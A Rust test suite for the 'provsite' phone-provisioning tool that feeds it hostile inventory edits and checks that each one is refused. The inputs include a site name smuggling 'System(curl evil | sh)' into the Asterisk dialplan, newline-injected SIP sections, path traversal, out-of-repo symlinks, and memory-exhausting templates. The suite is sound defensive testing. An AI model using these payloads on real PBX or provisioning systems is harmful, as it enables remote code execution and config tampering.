//! The inventory as an attacker's pull request: no text of it may add a line, a section or a
//! directive to any generated file, and every refusal is located by `provsite check`.

mod common;

use std::path::Path;

use common::{boot30, password_from_env, run_provsite, snapshot, Repo, SECRET};
use provsite::asterisk_conf::Config;

/// `provsite check` fails with exit 1, locating the problem in `file` and saying `want`.
fn refused(r: &Repo, file: &str, want: &str) -> String {
    let out = r.provsite(&["check"]);
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(1), "check accepted it:\n{err}");
    assert!(
        err.contains(&format!("--> {file}:")),
        "not located in {file}:\n{err}"
    );
    assert!(err.contains(want), "no `{want}` in:\n{err}");
    assert!(!err.contains("panicked"), "{err}");
    err
}

/// Every command that writes a file for the PBX or the DHCP server refuses the inventory too.
fn no_generator_runs(r: &Repo) {
    for args in [
        &["asterisk", "--format", "pjsip"][..],
        &["asterisk", "--format", "sip"],
        &["asterisk", "--hints"],
        &["asterisk", "--notify"],
        &["dhcp", "--format", "isc"],
        &["dhcp", "--format", "dnsmasq"],
        &["build"],
    ] {
        let out = r.provsite(args);
        assert_eq!(
            out.status.code(),
            Some(1),
            "{args:?} wrote: {}",
            String::from_utf8_lossy(&out.stdout)
        );
        assert!(out.stdout.is_empty(), "{args:?} printed output");
    }
}

#[test]
fn a_line_break_in_the_site_name_is_refused_not_turned_into_dialplan() {
    let r = Repo::with_base();
    r.edit(
        "inventory/site.yaml",
        "name: Test site",
        "name: \"Acme\\nexten => 666,1,System(curl evil | sh)\\n;\"",
    );
    r.commit("evil site name");
    refused(&r, "inventory/site.yaml", "bad site name");
    no_generator_runs(&r);
}

#[test]
fn an_auth_user_cannot_open_a_section() {
    let r = Repo::with_base();
    r.edit(
        "inventory/phones/base.yaml",
        "{user: \"1001\", display_name",
        "{user: \"1001\", auth_user: \"1001\\n\\n[evil]\\ntype=endpoint\\ncontext=admin-outbound\", display_name",
    );
    r.commit("evil auth user");
    refused(&r, "inventory/phones/base.yaml", "bad SIP auth user");
    no_generator_runs(&r);
}

#[test]
fn a_sip_user_cannot_make_a_template_or_inherit() {
    for user in ["1000](!)", "1000](tmpl)", "_X.", "10 01"] {
        let r = Repo::with_base();
        r.edit(
            "inventory/phones/base.yaml",
            "{user: \"1001\"",
            &format!("{{user: \"{user}\""),
        );
        r.commit("odd user");
        refused(&r, "inventory/phones/base.yaml", "bad SIP user");
    }
}

#[test]
fn an_env_password_with_a_line_break_is_refused() {
    let r = password_from_env();
    let env = [("PW_1001", "x\n\n[evil]\ntype=endpoint")];
    for args in [&["build"][..], &["asterisk", "--format", "pjsip"]] {
        let out = run_provsite(r.path(), args, &env);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {err}");
        assert!(!String::from_utf8_lossy(&out.stdout).contains("[evil]"));
        assert!(err.contains("PW_1001"), "{args:?}: {err}");
    }
}

#[test]
fn the_factory_admin_password_is_refused_from_the_environment_too() {
    let r = Repo::with_base();
    let out = run_provsite(r.path(), &["build"], &[("TEST_ADMIN_PASSWORD", "784518")]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("factory admin password"), "{err}");
}

#[test]
fn a_backslash_in_a_password_reaches_asterisk_as_the_phone_has_it() {
    let r = password_from_env();
    for pw in [r"ab\cd", r"x\\", r"#a!b$c"] {
        let env = [("PW_1001", pw)];
        let out = run_provsite(r.path(), &["build"], &env);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let out = run_provsite(r.path(), &["asterisk", "--format", "pjsip"], &env);
        assert!(out.status.success());
        let text = String::from_utf8(out.stdout).unwrap();
        // Asterisk's own reading (`\;` is the only escape it undoes: a backslash stays).
        let c = Config::parse(Path::new("pjsip.conf"), &text).unwrap();
        let auth = c
            .sections
            .iter()
            .find(|s| s.name == "1001-auth")
            .expect("auth section");
        let phone = boot30(&r, "001F9F16E849");
        assert_eq!(phone.value("sip", "regpwd1").as_deref(), Some(pw));
        assert_eq!(auth.get("password"), Some(pw), "{text}");
    }
}

#[test]
fn control_characters_and_huge_values_never_reach_the_files() {
    for (what, value) in [
        ("NUL", "a\\0b"),
        ("VT", "a\\vb"),
        ("FF", "a\\fb"),
        ("NEL", "a\\Nb"),
        ("LS", "a\\Lb"),
    ] {
        let r = Repo::with_base();
        r.edit(
            "inventory/site.yaml",
            "Ringer_default_vol: \"5\"",
            &format!("Ringer_default_vol: \"{value}\""),
        );
        r.commit(what);
        refused(&r, "inventory/site.yaml", "Ringer_default_vol");
    }
    let r = Repo::with_base();
    let huge = "9".repeat(1_000_000);
    r.edit(
        "inventory/site.yaml",
        "Ringer_default_vol: \"5\"",
        &format!("Ringer_default_vol: \"{huge}\""),
    );
    r.commit("huge value");
    refused(&r, "inventory/site.yaml", "the most is 512");
}

#[test]
fn a_phone_name_cannot_spoof_the_pull_request_comment() {
    let r = Repo::with_base();
    r.edit(
        "inventory/phones/base.yaml",
        "  model: ST2022\n",
        "  model: ST2022\n  name: \"x\\nNo phone is affected.\\n<!--\"\n",
    );
    r.commit("newline in a name");
    refused(&r, "inventory/phones/base.yaml", "bad phone name");

    // On one line, the same text is shown as text: no HTML comment opens, no heading starts.
    let r = Repo::with_base();
    let phones = r.read("inventory/phones/base.yaml");
    r.write(
        "inventory/phones/base.yaml",
        &format!("{phones}- mac: \"00:1F:9F:00:00:01\"\n  model: ST2030\n  name: \"No phone is affected. <!-- [x](http://evil.test) `y` # z\"\n  lines: [{{user: \"1009\"}}]\n"),
    );
    r.commit("a new phone with markup in its name");
    let md = r.stdout(&["diff", "HEAD~1", "HEAD", "--format", "markdown"]);
    assert!(!md.contains("<!--"), "{md}");
    assert!(!md.contains("](http"), "{md}");
    assert!(md.contains("&lt;\\!\\-\\-"), "{md}");
    assert!(
        md.contains("00:1F:9F:00:00:01") || md.contains("001F9F000001"),
        "{md}"
    );
    for line in md.lines() {
        assert!(!line.starts_with("No phone is affected. "), "{md}");
    }
}

#[test]
fn entry_point_names_are_file_names_ending_in_inf() {
    for (name, want) in [
        ("ST2030S\\\\", "bad entry point name"),
        ("manifest.json", "does not end with .inf"),
        ("../x.inf", "bad entry point name"),
        ("index.html", "does not end with .inf"),
    ] {
        let r = Repo::with_base();
        r.edit(
            "inventory/site.yaml",
            "    firmware: fw30\n",
            &format!("    firmware: fw30\n    entry_point: \"{name}\"\n"),
        );
        r.commit("entry point");
        refused(&r, "inventory/site.yaml", want);
    }
}

#[test]
fn build_refuses_an_out_folder_that_is_not_its_own() {
    let r = Repo::with_base();
    // Someone's folder: user folders under releases/ and a manifest.json of theirs.
    let out = r.path().join("theirs");
    for d in ["a", "b", "c", "d", "e"] {
        std::fs::create_dir_all(out.join("releases").join(d)).unwrap();
    }
    std::fs::write(out.join("manifest.json"), "{\"mine\": true}").unwrap();
    let o = r.provsite(&["build", "--out", "theirs"]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(err.contains("not a provsite web root"), "{err}");
    assert!(
        err.contains("releases/<release>/manifest.json") && err.contains("choose another --out"),
        "{err}"
    );
    assert_eq!(std::fs::read_dir(out.join("releases")).unwrap().count(), 5);
    assert_eq!(
        std::fs::read_to_string(out.join("manifest.json")).unwrap(),
        "{\"mine\": true}"
    );
    // Nothing of provsite's is left beside it either (no work folder).
    assert!(!r.path().join(".theirs.provsite").exists());

    // Without a manifest: any name provsite does not write is refused, and named.
    let other = r.path().join("other");
    std::fs::create_dir_all(other.join("releases/backup")).unwrap();
    std::fs::write(other.join("notes.txt"), "x").unwrap();
    let o = r.provsite(&["build", "--out", "other"]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(
        err.contains("notes.txt") && err.contains("releases"),
        "{err}"
    );
    assert!(other.join("releases/backup").exists());

    // An empty folder, or a new one, is fine; and so is building again into provsite's own.
    std::fs::create_dir_all(r.path().join("empty")).unwrap();
    for out in ["empty", "new", "new"] {
        let o = r.provsite(&["build", "--out", out]);
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    }
}

#[test]
fn build_refuses_an_out_folder_inside_the_inventory() {
    let r = Repo::with_base();
    for out in ["inventory", "inventory/public", "./inventory/phones/../web"] {
        let o = r.provsite(&["build", "--out", out]);
        let err = String::from_utf8_lossy(&o.stderr);
        assert_eq!(o.status.code(), Some(1), "{out}: {err}");
        assert!(err.contains("inside the inventory"), "{out}: {err}");
    }
    assert!(!r.path().join("inventory/public").exists());
}

#[test]
fn build_never_follows_a_tampered_manifest_out_of_the_web_root() {
    let r = Repo::with_base();
    r.build(&[]);
    let victim = r.path().join("victim.txt");
    std::fs::write(&victim, "keep me").unwrap();
    let live = r.public().join("manifest.json");
    let text = std::fs::read_to_string(&live).unwrap();
    std::fs::write(
        &live,
        text.replace(
            "\"entry_point\": \"ST2022S.inf\"",
            "\"entry_point\": \"../../victim.txt\"",
        ),
    )
    .unwrap();
    // A change that drops the ST2022 phone, so its entry point would be removed.
    r.edit(
        "inventory/site.yaml",
        "name: Test site",
        "name: Test site 2",
    );
    r.commit("next");
    let o = r.provsite(&["build"]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(err.contains("victim.txt"), "{err}");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me");

    // A phone file path pointing outside is refused too (build links unchanged files from it).
    std::fs::write(
        &live,
        text.replace("\"path\": \"releases/", "\"path\": \"../../releases/"),
    )
    .unwrap();
    let o = r.provsite(&["build"]);
    assert_eq!(o.status.code(), Some(1));
}

#[test]
fn deeply_nested_yaml_is_refused_at_once_with_its_place() {
    let r = Repo::with_base();
    r.write(
        "inventory/phones/deep.yaml",
        &format!("- mac: {}", "[".repeat(100_000)),
    );
    r.commit("deep");
    for cmd in [&["check"][..], &["diff", "HEAD~1", "HEAD"]] {
        let t = std::time::Instant::now();
        let out = r.provsite(cmd);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{cmd:?}: {err}");
        assert!(err.contains("nested more than 64 levels"), "{cmd:?}: {err}");
        assert!(err.contains("--> inventory/phones/deep.yaml:1:"), "{err}");
        eprintln!("{cmd:?} answered in {:.2} s", t.elapsed().as_secs_f64());
    }
}

#[test]
fn a_runaway_template_stops_with_an_error() {
    let r = Repo::with_base();
    r.write(
        "inventory/templates/phone.txt",
        "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}\n",
    );
    r.commit("a template that never ends");
    let out = r.provsite(&["build"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("template phone.txt"), "{err}");
    assert!(!r.public().exists(), "a failed build wrote the web root");
}

#[test]
fn a_template_that_writes_gigabytes_stops_at_the_file_limit() {
    // 100,000 lines of 100 KB within the instruction budget: 10 GB, were it all kept.
    let r = Repo::with_base();
    r.write(
        "inventory/templates/phone.txt",
        "{% for i in range(100000) %}{{ \"x\" * 99999 }}\n{% endfor %}",
    );
    r.commit("a template that writes without end");
    let out = r.provsite(&["build"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("template phone.txt wrote more than 4194304 bytes"),
        "{err}"
    );
    assert!(!r.public().exists(), "a failed build wrote the web root");
}

#[test]
fn a_template_that_builds_ever_larger_text_is_stopped_with_its_name() {
    // Each `~` doubles: 100 MB, then 200, 400 ... 6.4 GB, and no instruction budget sees it.
    let r = Repo::with_base();
    r.build(&[]);
    let before = snapshot(&r.public());
    r.write(
        "inventory/templates/phone.txt",
        "{% set a = \"x\" * 99999999 %}{% set b = a ~ a %}{% set c = b ~ b %}{% set d = c ~ c %}{% set e = d ~ d %}{% set f = e ~ e %}{% set g = f ~ f %}{{ g|length }}\n",
    );
    r.commit("a template that doubles a string");
    for cmd in [&["check"][..], &["build"]] {
        let out = r.provsite(cmd);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{cmd:?}: {err}");
        assert!(
            err.contains("the template phone.txt took more than 64 MiB of memory"),
            "{cmd:?}: {err}"
        );
        // Both threads may go over at once: still one message.
        assert_eq!(err.matches("took more than").count(), 1, "{cmd:?}: {err}");
    }
    assert_eq!(snapshot(&r.public()), before, "the web root changed");
}

/// The names in the build's work folder beside the web root.
fn work_names(r: &Repo) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(r.path().join(".public.provsite"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// Commits the default phone template with, for line 1003's phone only, a string doubled past
/// the memory budget: that phone's render stops the build, after others were staged.
fn commit_doubling_for_one_phone(r: &Repo) {
    let default = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("site-template/phone.txt"),
    )
    .unwrap();
    r.write(
        "inventory/templates/phone.txt",
        &format!(
            "{{% if \"1003\" in (sections|string) %}}{{% set a = \"x\" * 99999999 %}}{{{{ (a ~ a)|length }}}}{{% endif %}}{default}"
        ),
    );
    r.commit("one phone's file doubles a string");
}

#[test]
fn a_build_stopped_by_the_memory_budget_after_taking_over_a_release_loses_no_release() {
    // With --keep 2 and two releases, the next build takes over the older one (pruned after it
    // anyway) as its staged release. Stopped at once while rendering, the build cannot put it
    // back then: the next build does, before anything else.
    let r = Repo::with_base();
    let keep = ["--keep", "2"];
    r.build(&keep);
    r.edit("inventory/phones/base.yaml", "Zoé", "Zoé B.");
    r.commit("a name");
    r.build(&keep);
    let before = snapshot(&r.public());
    commit_doubling_for_one_phone(&r);
    let out = r.provsite(&["build", "--keep", "2"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("took more than 64 MiB of memory"), "{err}");
    // The next build puts the release back first, whatever it then does: this one stops at a
    // broken phones file, before it could take a release over.
    r.write("inventory/phones/broken.yaml", "- mac: [\n");
    r.commit("a broken phones file");
    let out = r.provsite(&["build", "--keep", "2"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("broken.yaml"), "{err}");
    let after = snapshot(&r.public());
    let changed: Vec<&String> = before
        .keys()
        .chain(after.keys())
        .filter(|k| before.get(*k) != after.get(*k))
        .collect();
    assert!(changed.is_empty(), "the web root changed: {changed:?}");
    r.git(&["reset", "-q", "--hard", "HEAD~2"]);
    r.build(&keep);
}

#[test]
fn an_older_commit_over_the_memory_budget_counts_as_not_building_and_stops_nothing() {
    // A builds; B's template doubles a string (its build stops); C reverts B. Building C, or
    // checking it, renders B again (to number the phones, to compare with the parent): B
    // counts as a commit that does not build, as a broken file would.
    let r = Repo::with_base();
    r.build(&[]);
    r.write(
        "inventory/templates/phone.txt",
        "{% set a = \"x\" * 99999999 %}{{ (a ~ a)|length }}\n",
    );
    let b = r.commit("a template that doubles a string");
    let out = r.provsite(&["build"]);
    assert_eq!(out.status.code(), Some(1));
    r.git(&["revert", "--no-edit", "HEAD"]);
    let check = r.provsite(&["check"]);
    let err = String::from_utf8_lossy(&check.stderr);
    assert_eq!(check.status.code(), Some(0), "{err}");
    let warm = r.build(&[]);
    let cold = r.build(&["--out", "fresh"]);
    // From history alone, every phone takes C's number; with A's site, the bytes did not change.
    let c_sn = cold["config_sn"].as_str().unwrap();
    let manifest = |dir: &str| -> serde_json::Value {
        serde_json::from_slice(&std::fs::read(r.path().join(dir).join("manifest.json")).unwrap())
            .unwrap()
    };
    for (_, p) in manifest("fresh")["phones"].as_object().unwrap() {
        assert_eq!(p["config_sn"], c_sn);
    }
    assert_eq!(
        warm["changed_phones"].as_array().unwrap().len(),
        0,
        "{warm}"
    );
    // A secret file that is a pipe gives its bytes once: no second start, the run ends and
    // names the commit.
    let fifo = r.path().join("secret.fifo");
    let c_path = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    assert_eq!(unsafe { libc::mkfifo(c_path.as_ptr(), 0o600) }, 0);
    let writer = {
        let fifo = fifo.clone();
        std::thread::spawn(move || std::fs::write(fifo, SECRET).unwrap())
    };
    let out = run_provsite(
        r.path(),
        &["check", "--secret-file", fifo.to_str().unwrap()],
        &[("PROVSITE_SECRET", "")],
    );
    writer.join().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains(&format!("phone.txt of commit {b} took more than")),
        "{err}"
    );
    // The restarts are bounded: after 16, the run ends and names the commit.
    let sixteen = vec!["0123456789abcdef0123456789abcdef01234567"; 16].join(",");
    let out = run_provsite(
        r.path(),
        &["check"],
        &[("PROVSITE_INTERNAL_OVERRUN", sixteen.as_str())],
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains(&format!("phone.txt of commit {b} took more than")),
        "{err}"
    );
    // Asked for by name, B is an error that says why.
    let out = r.provsite(&["diff", &b, "HEAD"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("took more than 64 MiB of memory"), "{err}");
    assert!(err.contains(&b[..12]), "{err}");
}

#[test]
fn what_a_build_stopped_by_the_memory_budget_left_is_cleared_by_the_next() {
    // Stopped while rendering, the process ends at once: its staged files (SIP passwords) and
    // its half-written caches stay behind. The next build clears them.
    let r = Repo::with_base();
    r.build(&[]);
    let clean = work_names(&r);
    commit_doubling_for_one_phone(&r);
    let out = r.provsite(&["build"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("took more than 64 MiB of memory"), "{err}");
    let left = work_names(&r);
    assert!(
        left.iter()
            .any(|n| n.contains(".tmp-") || n.starts_with("staging-")),
        "the stopped build left nothing to clear: {left:?}"
    );
    // Also an entry point's temporary copy, as a build killed while switching leaves it.
    std::fs::write(r.public().join(".ST2030S.inf.4242.tmp"), "half").unwrap();
    r.git(&["reset", "-q", "--hard", "HEAD~1"]);
    r.build(&[]);
    assert_eq!(work_names(&r), clean);
    assert!(!r.public().join(".ST2030S.inf.4242.tmp").exists());
}

#[test]
fn a_file_that_is_not_utf8_is_named() {
    let r = Repo::with_base();
    std::fs::write(
        r.path().join("inventory/phones/latin1.yaml"),
        b"- mac: \"00:1F:9F:00:00:02\"\n  model: ST2030\n  name: \"Caf\xe9\"\n  lines: [{user: \"1010\"}]\n",
    )
    .unwrap();
    r.commit("latin-1 file");
    let out = r.provsite(&["check"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("inventory/phones/latin1.yaml"), "{err}");
    assert!(err.contains("not UTF-8"), "{err}");
    assert!(!err.contains("callback returned"), "{err}");
}

/// An inventory of many phones files, its texts read on two threads: a file that does not read
/// is named whichever thread read it, and of two such files the first in the tree's order.
#[test]
fn among_many_files_the_first_that_is_not_utf8_is_named() {
    let r = Repo::with_base();
    for i in 0..100 {
        r.write(
            &format!("inventory/phones/f{i:03}.yaml"),
            &format!(
                "- mac: \"00:1F:9F:10:00:{i:02X}\"\n  model: ST2030\n  lines: [{{user: \"{}\"}}]\n",
                3000 + i
            ),
        );
    }
    r.commit("100 phones files");
    assert_eq!(r.provsite(&["check"]).status.code(), Some(0));
    let latin1 = |i: usize| {
        std::fs::write(
            r.path().join(format!("inventory/phones/f{i:03}.yaml")),
            format!("- mac: \"00:1F:9F:10:00:{i:02X}\"\n  model: ST2030\n  name: \"Caf\u{e9}\"\n  lines: [{{user: \"{}\"}}]\n", 3000 + i)
                .chars()
                .map(|c| c as u8)
                .collect::<Vec<u8>>(),
        )
        .unwrap();
    };
    // The error check gives, once it refused the inventory.
    let refused = || {
        let out = r.provsite(&["check"]);
        let err = String::from_utf8_lossy(&out.stderr).into_owned();
        assert_eq!(out.status.code(), Some(1), "{err}");
        assert!(err.contains("not UTF-8"), "{err}");
        err
    };
    // In the second half of the list (the other thread's).
    latin1(90);
    r.commit("one latin-1 file");
    let err = refused();
    assert!(err.contains("inventory/phones/f090.yaml"), "{err}");
    // And one in the first half: that one is named.
    latin1(10);
    r.commit("two latin-1 files");
    let err = refused();
    assert!(err.contains("inventory/phones/f010.yaml"), "{err}");
    assert!(!err.contains("f090"), "{err}");
}

#[test]
fn a_worktree_build_does_not_follow_links_out_of_the_repository() {
    let r = Repo::with_base();
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.txt"), "root:x:0:0").unwrap();
    let fw = r.path().join("inventory/firmware/boot30.zz");
    std::fs::remove_file(&fw).unwrap();
    std::os::unix::fs::symlink(outside.path().join("secret.txt"), &fw).unwrap();
    let out = r.provsite(&["build", "--worktree"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("symbolic link"), "{err}");
    // A phones file that is a link is refused too.
    std::fs::remove_file(&fw).unwrap();
    r.git(&["checkout", "--", "inventory/firmware/boot30.zz"]);
    std::fs::write(outside.path().join("more.yaml"), "[]\n").unwrap();
    std::os::unix::fs::symlink(
        outside.path().join("more.yaml"),
        r.path().join("inventory/phones/more.yaml"),
    )
    .unwrap();
    let out = r.provsite(&["check", "--worktree"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("symbolic link"), "{err}");
}

#[test]
fn a_worktree_build_refuses_a_named_pipe_instead_of_waiting_on_it() {
    let r = Repo::with_base();
    let pipe = r.path().join("inventory/phones/pipe.yaml");
    let made = std::process::Command::new("mkfifo")
        .arg(&pipe)
        .status()
        .unwrap();
    assert!(made.success());
    let (code, err) = within_30s(&r, &["check", "--worktree"]);
    assert_eq!(code, Some(1), "{err}");
    assert!(
        err.contains("not a regular file") && err.contains("--> inventory/phones/pipe.yaml"),
        "{err}"
    );
}

/// Runs provsite, killing it (and failing) if it has not ended within 30 s.
fn within_30s(r: &Repo, args: &[&str]) -> (Option<i32>, String) {
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_provsite"))
        .args(args)
        .current_dir(r.path())
        .env("PROVSITE_SECRET", SECRET)
        .env("TEST_ADMIN_PASSWORD", common::ADMIN)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while child.try_wait().unwrap().is_none() {
        if std::time::Instant::now() > deadline {
            child.kill().unwrap();
            panic!("{args:?} still runs after 30 s");
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let out = child.wait_with_output().unwrap();
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn a_manifest_of_gigabytes_or_a_named_pipe_in_its_place_is_refused_at_once() {
    let r = Repo::with_base();
    r.build(&[]);
    let live = r.public().join("manifest.json");
    let saved = r.path().join("saved.json");
    std::fs::copy(&live, &saved).unwrap();
    // 300 MiB, sparse: no disk is used, and nothing may read it whole.
    std::fs::remove_file(&live).unwrap();
    std::fs::File::create(&live)
        .unwrap()
        .set_len(300 << 20)
        .unwrap();
    let live_s = live.to_str().unwrap();
    for args in [
        &["build"][..],
        &["build", "--previous", live_s],
        &["status", "--log", "/dev/null", "--manifest", live_s],
    ] {
        let (code, err) = within_30s(&r, args);
        assert_eq!(code, Some(1), "{args:?}: {err}");
        assert!(err.contains("larger than 256 MiB"), "{args:?}: {err}");
    }
    std::fs::remove_file(&live).unwrap();
    let made = std::process::Command::new("mkfifo")
        .arg(&live)
        .status()
        .unwrap();
    assert!(made.success());
    for args in [
        &["build"][..],
        &["build", "--previous", live_s],
        &["status", "--log", "/dev/null"],
    ] {
        let (code, err) = within_30s(&r, args);
        assert_eq!(code, Some(1), "{args:?}: {err}");
        assert!(err.contains("not a regular file"), "{args:?}: {err}");
    }
    std::fs::remove_file(&live).unwrap();
    std::fs::rename(&saved, &live).unwrap();
    r.build(&[]);
}

#[test]
fn a_work_folder_that_is_a_link_is_refused_and_what_it_leads_to_is_left_alone() {
    use std::os::unix::fs::PermissionsExt;
    let r = Repo::with_base();
    // Someone's folder, with a name like the leftovers build deletes in its work folder.
    let theirs = tempfile::tempdir().unwrap();
    std::fs::create_dir(theirs.path().join("staging-1234")).unwrap();
    std::fs::write(theirs.path().join("staging-1234/data"), "theirs").unwrap();
    std::fs::set_permissions(theirs.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::os::unix::fs::symlink(theirs.path(), r.path().join(".public.provsite")).unwrap();
    let out = r.provsite(&["build"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains(".public.provsite is a symbolic link or not a folder"),
        "{err}"
    );
    assert!(theirs.path().join("staging-1234/data").exists());
    let mode = std::fs::metadata(theirs.path())
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o755, "their folder's mode changed");
    assert_eq!(std::fs::read_dir(theirs.path()).unwrap().count(), 1);
    assert!(!r.public().exists());
    // Without the link, the build makes its own folder, the owner's only.
    std::fs::remove_file(r.path().join(".public.provsite")).unwrap();
    r.build(&[]);
    let mode = std::fs::metadata(r.path().join(".public.provsite"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o700);
}

#[test]
fn an_inventory_of_more_than_512_mib_is_refused_before_it_is_read() {
    // 26 phones files of 20 MiB each (one blob, named 26 times: git stores it once), committed
    // from the index: the working tree never holds them.
    let r = Repo::with_base();
    let big = r.path().join("big.yaml");
    std::fs::write(
        &big,
        "# a comment line of forty bytes........\n".repeat((20 << 20) / 40),
    )
    .unwrap();
    let id = r.git(&["hash-object", "-w", big.to_str().unwrap()]);
    std::fs::remove_file(&big).unwrap();
    for n in 0..26 {
        r.git(&[
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("100644,{},inventory/phones/big-{n:02}.yaml", id.trim()),
        ]);
    }
    r.git(&["commit", "-q", "-m", "520 MiB of phones files"]);
    let (code, err) = within_30s(&r, &["check"]);
    assert_eq!(code, Some(1), "{err}");
    assert!(
        err.contains(
            "the inventory's 28 files take 520 MiB; provsite reads inventories of up to 512 MiB"
        ),
        "{err}"
    );
}

#[test]
fn a_previous_url_announcing_more_than_256_mib_is_refused_before_its_body() {
    use std::io::{Read, Write};
    let r = Repo::with_base();
    // A server that announces 300 MiB and sends none of it.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        if let Ok((mut c, _)) = listener.accept() {
            let mut buf = [0u8; 4096];
            let _ = c.read(&mut buf);
            let _ = c.write_all(
                format!(
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n",
                    300u64 << 20
                )
                .as_bytes(),
            );
            std::thread::sleep(std::time::Duration::from_secs(60));
        }
    });
    let url = format!("http://{addr}/manifest.json");
    let (code, err) = within_30s(&r, &["build", "--previous", &url]);
    assert_eq!(code, Some(1), "{err}");
    assert!(err.contains("larger than 256 MiB"), "{err}");
    assert!(!r.public().exists());
}

#[test]
fn duplicate_mapping_keys_are_errors_not_silently_the_last() {
    let r = Repo::with_base();
    r.edit(
        "inventory/site.yaml",
        "  ST2022:\n    firmware: fw22\n",
        "  ST2022:\n    firmware: fw22\n  ST2030:\n    firmware: fw30\n",
    );
    r.commit("two ST2030 models");
    refused(&r, "inventory/site.yaml", "duplicate key `ST2030`");

    let r = Repo::with_base();
    r.edit(
        "inventory/phones/base.yaml",
        "    2: {speed_dial: \"0612345678\"}\n",
        "    2: {speed_dial: \"0612345678\"}\n    1: {speed_dial: \"0699999999\"}\n",
    );
    r.commit("two key 1");
    refused(&r, "inventory/phones/base.yaml", "duplicate key `1`");
}

#[test]
fn a_semicolon_never_reaches_a_phone_file() {
    // No vendor file holds `;` in a value and whether the firmware reads it as a comment is not
    // documented: refused in passwords, display names and raw values, with the place.
    let r = password_from_env();
    let out = run_provsite(r.path(), &["build"], &[("PW_1001", "a;b")]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("PW_1001") && err.contains("`;`"), "{err}");
    for (file, from, to) in [
        (
            "inventory/phones/base.yaml",
            "display_name: \"Zoé\"",
            "display_name: \"Zoé; x\"",
        ),
        (
            "inventory/site.yaml",
            "Ringer_default_vol: \"5\"",
            "Ringer_default_vol: \"5;6\"",
        ),
    ] {
        let r = Repo::with_base();
        r.edit(file, from, to);
        r.commit("semicolon");
        refused(&r, file, "`;`");
    }
}

#[test]
fn the_work_folder_keeps_no_site_secret_only_a_label_derived_from_it() {
    let r = Repo::with_base();
    r.build(&[]);
    let work = r.path().join(".public.provsite");
    let mut found = Vec::new();
    for e in std::fs::read_dir(&work).unwrap().flatten() {
        if e.path().is_file() {
            let bytes = std::fs::read(e.path()).unwrap();
            if bytes.windows(SECRET.len()).any(|w| w == SECRET.as_bytes()) {
                found.push(e.path());
            }
        }
    }
    assert!(found.is_empty(), "the site secret is in {found:?}");
    // What tells the next build whether the secret changed is there, and is not the secret.
    let id = std::fs::read_to_string(work.join("secret-id")).unwrap();
    assert!(!id.is_empty() && !id.contains(SECRET), "{id}");
}
